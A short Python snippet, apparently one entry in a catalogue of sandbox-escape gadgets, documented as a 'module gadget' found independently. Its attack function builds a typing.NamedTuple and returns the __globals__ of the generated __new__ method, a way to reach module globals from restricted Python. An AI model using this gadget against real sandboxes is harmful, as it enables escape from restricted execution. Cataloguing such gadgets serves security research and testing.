"""Class: module gadget. Source: own find. Escape: typing.NamedTuple makes code from field names."""

import typing


def attack(model, tokenizer, address):
    made = typing.NamedTuple("Made", [("x", int)])
    return made.__new__.__globals__
